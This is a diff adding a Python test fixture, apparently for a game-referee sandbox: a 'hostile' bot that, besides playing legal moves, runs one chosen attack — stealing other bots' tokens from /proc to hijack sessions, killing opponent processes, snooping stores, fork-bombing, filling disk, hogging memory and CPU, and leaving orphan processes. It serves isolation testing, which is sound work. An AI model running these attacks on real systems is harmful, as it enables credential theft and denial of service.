@@ -1,0 +1,280 @@
+"""A hostile bot: plays legal moves, and on its first match start tries one attack on the
+referee, its opponent or the machine, then reports what it achieved on stderr as one line
+``HOSTILE <attack> key=value ...`` (tests read it from the bot's log or output tail).
+
+``python hostile.py ATTACK [ARGUMENTS...]``; attacks:
+
+- ``token-thief``: read other processes' ``AEGIS_TOKEN`` and endpoint from /proc, and say
+  hello with each from a new connection (a session hijack if welcomed);
+- ``killer``: find other bots in /proc and SIGSTOP then SIGKILL them;
+- ``snoop PATH...``: open each path (the store, config, records, logs, another bot's files),
+  and look for open SQLite files in other processes' /proc/PID/fd;
+- ``leftover TAG``: leave a double-forked ``setsid env -i sleep TAG`` behind;
+- ``disk-filler``: write into /tmp and into its working directory until refused;
+- ``fork-bomb``: fork sleeping children until refused;
+- ``memory-hog MB``: allocate and touch MB MiB of memory;
+- ``spinner``: start child processes that spin forever;
+- ``widen``: widen its CPU affinity to every CPU of the machine;
+- ``remember``: report how many matches this process has seen and whether a file written
+  in /tmp or its folder by an earlier match is still there.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Sequence
+from pathlib import Path
+
+import msgpack
+import zmq
+
+from protocol.sdk import Action, Bot, Decision, MatchInfo, run
+
+
+def report(attack: str, **fields: object) -> None:
+    """One line the tests parse."""
+    text = " ".join(f"{key}={value}" for key, value in fields.items())
+    print(f"HOSTILE {attack} {text}", file=sys.stderr, flush=True)
+
+
+def foreign_processes() -> dict[int, dict[str, str]]:
+    """Processes whose environment this bot can read and that hold another bot's token."""
+    own = os.environ.get("AEGIS_TOKEN")
+    found: dict[int, dict[str, str]] = {}
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == os.getpid():
+            continue
+        try:
+            raw = Path(f"/proc/{entry}/environ").read_bytes()
+        except OSError:
+            continue
+        variables = dict(
+            item.split("=", 1) for item in raw.decode("utf-8", "replace").split("\0") if "=" in item
+        )
+        token = variables.get("AEGIS_TOKEN")
+        # Only the bots of this bot's own referee: a test must not harm other tests' bots.
+        same_referee = os.path.dirname(variables.get("AEGIS_ENDPOINT", "")) == os.path.dirname(
+            os.environ.get("AEGIS_ENDPOINT", "")
+        )
+        if token and token != own and same_referee:
+            found[int(entry)] = variables
+    return found
+
+
+def visible_processes() -> int:
+    """How many processes this bot can see in /proc."""
+    return sum(1 for entry in os.listdir("/proc") if entry.isdigit())
+
+
+def steal_tokens() -> None:
+    victims = foreign_processes()
+    tokens = {(env["AEGIS_TOKEN"], env.get("AEGIS_ENDPOINT", "")) for env in victims.values()}
+    answers = []
+    context = zmq.Context()
+    for token, endpoint in sorted(tokens):
+        socket = context.socket(zmq.DEALER)
+        socket.setsockopt(zmq.LINGER, 0)
+        try:
+            socket.connect(endpoint)
+            hello = {"version": "1.0", "id": 1, "type": "hello", "versions": ["1.0"]}
+            socket.send(msgpack.packb({**hello, "name": "thief", "token": token}))
+            answer = "none"
+            if socket.poll(2000):
+                answer = str(msgpack.unpackb(socket.recv()).get("type"))
+            answers.append(answer)
+        except zmq.ZMQError as error:
+            answers.append(f"error:{error.errno}")
+        finally:
+            socket.close(0)
+    context.term()
+    welcomed = answers.count("welcome")
+    report(
+        "token-thief",
+        visible=visible_processes(),
+        tokens=len(tokens),
+        answers=",".join(answers) or "-",
+        hijacked=welcomed,
+    )
+
+
+def kill_opponents() -> None:
+    victims = foreign_processes()
+    signalled = 0
+    for pid in victims:
+        for sig in (signal.SIGSTOP, signal.SIGKILL):
+            with contextlib.suppress(OSError):
+                os.kill(pid, sig)
+                signalled += 1
+    # Blind signals too: every pid this bot can see but its own.
+    blind = 0  # pids it could signal at all (signal 0 harms nothing)
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and int(entry) not in (os.getpid(), os.getppid(), 1):
+            with contextlib.suppress(OSError):
+                os.kill(int(entry), 0)
+                blind += 1
+    report("killer", found=len(victims), signalled=signalled, reachable=blind)
+
+
+def snoop(paths: Sequence[str]) -> None:
+    results = []
+    for path in paths:
+        try:
+            if os.path.isdir(path):
+                os.listdir(path)
+            else:
+                with open(path, "rb") as stream:
+                    stream.read(16)
+            results.append("read")
+        except FileNotFoundError:
+            results.append("missing")
+        except OSError:
+            results.append("denied")
+    stores = 0
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        with contextlib.suppress(OSError):
+            for descriptor in os.listdir(f"/proc/{entry}/fd"):
+                with contextlib.suppress(OSError):
+                    target = os.readlink(f"/proc/{entry}/fd/{descriptor}")
+                    if target.endswith(".sqlite") or target.endswith(".db"):
+                        with open(f"/proc/{entry}/fd/{descriptor}", "rb"):
+                            stores += 1
+    report("snoop", results=",".join(results), stores_opened=stores)
+
+
+def leave_leftover(tag: str) -> None:
+    subprocess.Popen(
+        ["setsid", "env", "-i", "sh", "-c", f"sleep {tag} & exit 0"],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        start_new_session=True,
+    ).wait()
+    report("leftover", started=tag)
+
+
+def fill_disk() -> None:
+    written = {}
+    for folder in ("/tmp", os.getcwd()):
+        total = 0
+        try:
+            with open(os.path.join(folder, "hostile-filler.bin"), "wb") as stream:
+                chunk = b"x" * (1 << 20)
+                while total < 5 << 30:
+                    stream.write(chunk)
+                    stream.flush()
+                    total += len(chunk)
+        except OSError:
+            pass
+        written[folder] = total >> 20
+    report("disk-filler", tmp_mb=written["/tmp"], cwd_mb=written[os.getcwd()], cwd=os.getcwd())
+
+
+def fork_bomb() -> None:
+    children = 0
+    error = "none"
+    try:
+        while children < 5000:
+            pid = os.fork()
+            if pid == 0:
+                time.sleep(120)
+                os._exit(0)
+            children += 1
+    except OSError as failure:
+        error = failure.strerror or str(failure)
+    report("fork-bomb", forked=children, error=error.replace(" ", "_"))
+
+
+def hog_memory(megabytes: int) -> None:
+    report("memory-hog", asking=megabytes)
+    chunks = []
+    try:
+        for _ in range(megabytes // 16):
+            chunks.append(b"x" * (16 << 20))
+    except MemoryError:
+        # As a program without the SDK's safety net dies when an allocation fails.
+        print("MemoryError: out of memory", file=sys.stderr, flush=True)
+        os._exit(1)
+    report("memory-hog", allocated=len(chunks) * 16)
+
+
+def spin(count: int = 4) -> None:
+    for _ in range(count):
+        subprocess.Popen(
+            [sys.executable, "-c", "while True: pass"],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+    report("spinner", started=count)
+
+
+def widen() -> None:
+    before = sorted(os.sched_getaffinity(0))
+    error = "none"
+    try:
+        os.sched_setaffinity(0, range(os.cpu_count() or 1))
+    except OSError as failure:
+        error = failure.strerror or str(failure)
+    after = sorted(os.sched_getaffinity(0))
+    report(
+        "widen",
+        before=",".join(map(str, before)),
+        after=",".join(map(str, after)),
+        error=error.replace(" ", "_"),
+    )
+
+
+class Hostile(Bot):
+    """Attacks once, at its first match start, then plays the first legal action."""
+
+    name = "hostile"
+
+    def __init__(self, attack: str, arguments: Sequence[str]) -> None:
+        self.attack = attack
+        self.arguments = list(arguments)
+        self.matches = 0
+
+    def on_match_start(self, match: MatchInfo) -> None:
+        self.matches += 1
+        if self.attack == "remember":
+            markers = [Path("/tmp/hostile-marker"), Path.cwd() / "hostile-marker"]
+            seen = [marker.exists() for marker in markers]
+            for marker in markers:
+                with contextlib.suppress(OSError):
+                    marker.write_text("I was here")
+            report(
+                "remember",
+                matches=self.matches,
+                tmp_marker=int(seen[0]),
+                cwd_marker=int(seen[1]),
+            )
+            return
+        if self.matches > 1:
+            return
+        attacks = {
+            "token-thief": steal_tokens,
+            "killer": kill_opponents,
+            "snoop": lambda: snoop(self.arguments),
+            "leftover": lambda: leave_leftover(self.arguments[0]),
+            "disk-filler": fill_disk,
+            "fork-bomb": fork_bomb,
+            "memory-hog": lambda: hog_memory(int(self.arguments[0])),
+            "spinner": spin,
+            "widen": widen,
+        }
+        attacks[self.attack]()
+
+    def decide(self, view: Decision, legal: Sequence[Action]) -> Action:
+        """The first legal action."""
+        return legal[0]
+
+
+if __name__ == "__main__":
+    run(Hostile(sys.argv[1], sys.argv[2:]), argv=[])
